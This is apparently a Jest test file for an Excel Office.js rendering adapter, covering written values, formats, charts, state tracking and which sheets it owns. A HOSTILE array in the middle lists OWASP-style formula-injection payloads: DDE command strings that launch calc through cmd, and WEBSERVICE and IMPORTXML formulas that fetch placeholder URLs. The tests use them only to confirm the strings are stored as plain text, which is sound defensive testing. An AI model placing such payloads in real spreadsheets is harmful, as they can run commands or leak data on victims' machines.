/** Rendering through the Office.js adapter, against the strict simulator. */
import { describe, expect, it } from '@jest/globals';
import { fingerprintGrid } from '../../src/core/state';
import type { SheetPlan } from '../../src/core/plans/types';
import { hashSnapshotSheets } from '../support/hash';
import { STATE, adapterFor, featurePlans, newSim } from './fixtures';

describe('render: what is written', () => {
  it('writes values, formulas, formats, tables, conditional formats, charts, panes and links', async () => {
    const sim = newSim();
    const result = await adapterFor(sim).render(featurePlans(), { state: STATE });
    expect(result).toEqual({ written: ['Impact (2)', 'Summary'], replaced: [] });
    expect(sim.model.sheets.map((s) => [s.name, s.visibility])).toEqual([
      ['Data', 'Visible'],
      ['Impact', 'Visible'],
      ['Impact (2)', 'Visible'],
      ['Summary', 'Visible'],
      ['Throughline State', 'VeryHidden'],
    ]);
    expect(sim.cell('Impact (2)', 'A1')).toMatchObject({
      v: 'Measure',
      q: true,
      look: { bold: true, fill: '#DDEBF7', horizontalAlignment: 'Center' },
    });
    expect(sim.cell('Impact (2)', 'B2')).toMatchObject({ v: 50, nf: '0.0' });
    expect(sim.cell('Impact (2)', 'D3')).toMatchObject({ f: '=C3-B3', nf: '0.0' });
    const d = sim.details('Impact (2)');
    expect(d.tables).toEqual([
      { name: 'ImpactTable', address: 'A1:D3', style: 'TableStyleLight9', showBandedRows: true },
    ]);
    expect(d.conditionalFormats).toEqual([
      {
        type: 'DataBar',
        address: 'D2:D3',
        settings: { dataBar: { positiveFormat: { fillColor: '#5B9BD5' } } },
      },
      {
        type: 'ColorScale',
        address: 'B2:B3',
        settings: {
          colorScale: {
            criteria: {
              minimum: { formula: null, type: 'LowestValue', color: '#F8696B' },
              maximum: { formula: null, type: 'HighestValue', color: '#63BE7B' },
              midpoint: { formula: '45', type: 'Number', color: '#FFEB84' },
            },
          },
        },
      },
      // The text sits inside a string literal, its quotes doubled: it cannot act as a formula.
      {
        type: 'CellValue',
        address: 'A2:A3',
        settings: {
          cellValue: {
            format: { fill: { color: '#FFC7CE' }, font: { color: '#9C0006' } },
            rule: { formula1: '="Math ""core"""', operator: 'EqualTo' },
          },
        },
      },
    ]);
    expect(d.charts).toEqual([
      {
        type: 'ColumnClustered',
        title: 'Pre and post',
        source: 'B2:B3',
        series: [
          { name: 'Pre', values: 'B2:B3', xAxisValues: 'A2:A3' },
          { name: 'Post', values: 'C2:C3', xAxisValues: 'A2:A3' },
        ],
        startCell: 'F2',
        endCell: undefined,
        width: 360, // 480 px × 0.75
        height: 216, // 288 px × 0.75
        axisTitles: { categoryAxis: { text: 'Group' }, valueAxis: { text: 'Mean score' } },
      },
    ]);
    expect(d.freeze).toEqual({ rows: 1, columns: 1 });
    // 20 characters: (20 × 7 + 5) px × 0.75 = 108.75 pt; 10 characters: 75 px = 56.25 pt.
    expect(d.columnWidths).toEqual({ A: 108.75, C: 56.25 });
    expect(d.hyperlinks).toEqual([
      {
        address: 'A2',
        documentReference: "'Data'!B4",
        address2: undefined,
        textToDisplay: undefined,
      },
    ]);
    expect(sim.cell('Impact (2)', 'A2')?.v).toBe('Reading');
    // The formula on another output sheet names the final sheet, not a temporary one.
    expect(sim.cell('Summary', 'B1')?.f).toBe("='Impact (2)'!D2");
    expect(sim.cell('Summary', 'B2')).toEqual({ v: '=SUM(1,2)', q: true });
    expect(sim.model.sheets.some((s) => s.name.startsWith('~tl'))).toBe(false);
  });

  it('stores the state: each sheet with its key and fingerprint, the config kept', async () => {
    const sim = newSim();
    const adapter = adapterFor(sim);
    await adapter.render(featurePlans(), { state: STATE });
    const state = await adapter.readState();
    expect(state?.config).toEqual({ note: 'confirmed mapping' });
    expect(state?.sheets.map((s) => [s.key, s.name, s.writtenAt])).toEqual([
      ['impact', 'Impact (2)', '2025-03-01T12:00:00.000Z'],
      ['summary', 'Summary', '2025-03-01T12:00:00.000Z'],
    ]);
    // The fingerprint is of the grid as Excel gives it back (formulas text; sheet quotes only where needed).
    expect(state?.sheets[1].fingerprint).toBe(
      fingerprintGrid([
        ['Reading gain', "='Impact (2)'!D2"],
        ['Note', '=SUM(1,2)'],
      ]),
    );
    expect(await adapter.editedOwnedSheets(state!)).toEqual([]);
  });

  it('editedOwnedSheets names the sheet a person changed', async () => {
    const sim = newSim();
    const adapter = adapterFor(sim);
    await adapter.render(featurePlans(), { state: STATE });
    await sim.Excel.run(async (context) => {
      context.workbook.worksheets.getItem('Summary').getRange('A2').values = [['my note']];
      await context.sync();
    });
    expect(await adapter.editedOwnedSheets((await adapter.readState())!)).toEqual(['Summary']);
  });
});

/** The injection corpus: OWASP CSV-injection payloads, DDE, functions that reach out, odd characters. */
export const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://x","y")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '=WEBSERVICE("http://x")',
  '0123',
  '5%',
  'TRUE',
  'false',
  '#N/A',
  '1e3',
  '1,234',
  '2024-01-05',
  '1/2/2020',
  "'=1+1",
  "''",
  '=cmd|"/c calc"!A1',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '@cmd|"/c calc"!A1',
  '+1',
  '-1',
  '=IMPORTXML(CONCAT("http://x?", A1), "//a")',
  '=FILTERXML(WEBSERVICE("http://x"),"//a")',
  ' =1+1',
  '\n=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  'مرحبا =1',
  '=' + 'A'.repeat(100),
  'x'.repeat(32_000),
  '=1+1'.padEnd(32_000, ' '),
  '$5',
  '(12)',
];

describe('render: strings are always text', () => {
  it(`writes ${HOSTILE.length} hostile strings as text: no formula, no number, the exact string`, async () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(30);
    const plan: SheetPlan = {
      key: 'goals',
      name: 'Goals',
      cells: [['Goal text', HOSTILE[0]], ...HOSTILE.map((s, i) => [s, i])],
      tables: [
        {
          name: 'Goals',
          rect: { row: 1, column: 1, rowCount: HOSTILE.length + 1, columnCount: 2 },
        },
      ],
    };
    const sim = newSim();
    await adapterFor(sim).render([plan], { state: STATE });
    const sheet = sim.toSnapshot().sheets.find((s) => s.name === 'Goals')!;
    const formulas = sheet.cells.flat().filter((c) => c && c.formula !== undefined);
    expect(formulas).toEqual([]);
    expect(sheet.cells.slice(1).map((r) => r[0]?.value)).toEqual(HOSTILE);
    expect(sheet.cells[0][1]?.value).toBe('=1+1'); // a table header too
  });
});

describe('render: ownership', () => {
  it("leaves a person's sheets alone, replaces only its own, and a second run gives the same workbook", async () => {
    const sim = newSim();
    const before = hashSnapshotSheets(sim.toSnapshot());
    const adapter = adapterFor(sim);
    await adapter.render(featurePlans(), { state: STATE });
    const first = sim.toSnapshot();
    const firstDetails = sim.details('Impact (2)');
    const second = await adapter.render(featurePlans(), { state: STATE });
    expect(second).toEqual({ written: [], replaced: ['Impact (2)', 'Summary'] });
    expect(sim.toSnapshot()).toEqual(first);
    expect(sim.details('Impact (2)')).toEqual(firstDetails);
    const after = hashSnapshotSheets(sim.toSnapshot());
    for (const name of ['Data', 'Impact']) expect(after.get(name)).toBe(before.get(name));
    // The cross-sheet formula still points at the new sheet (not #REF! after the old one went).
    expect(sim.cell('Summary', 'B1')?.f).toBe("='Impact (2)'!D2");
  });

  it("refuses a plan that would replace a person's sheet, before changing anything", async () => {
    const sim = newSim();
    const before = sim.toSnapshot();
    const plan: SheetPlan = { key: 'impact', name: 'Impact', cells: [['x']] };
    await expect(adapterFor(sim).render([plan], { state: STATE })).rejects.toThrow(/does not own/);
    expect(sim.toSnapshot()).toEqual(before);
  });

  it('keeps earlier owned sheets that this run does not render in the state', async () => {
    const sim = newSim();
    const adapter = adapterFor(sim);
    await adapter.render(featurePlans(), { state: STATE });
    await adapter.render([featurePlans()[1]], { state: STATE });
    expect((await adapter.readState())?.sheets.map((s) => s.name)).toEqual([
      'Summary',
      'Impact (2)',
    ]);
    expect(sim.model.sheets.map((s) => s.name)).toContain('Impact (2)');
  });

  it("refuses to run when a person's visible sheet is named like the state sheet", async () => {
    const snap = newSim().toSnapshot();
    snap.sheets.push({
      name: 'Throughline State',
      visibility: 'visible',
      cells: [[{ value: 'mine' }]],
    });
    const sim = newSim(snap);
    await expect(adapterFor(sim).render(featurePlans(), { state: STATE })).rejects.toThrow(
      /sheet of its own named "Throughline State"/,
    );
    expect(sim.toSnapshot()).toEqual(snap);
  });

  it('a protected workbook: the run fails and the workbook is unchanged', async () => {
    const sim = newSim(undefined, { protectedWorkbook: true });
    const before = sim.toSnapshot();
    await expect(adapterFor(sim).render(featurePlans(), { state: STATE })).rejects.toMatchObject({
      code: 'AccessDenied',
    });
    expect(sim.toSnapshot()).toEqual(before);
  });
});
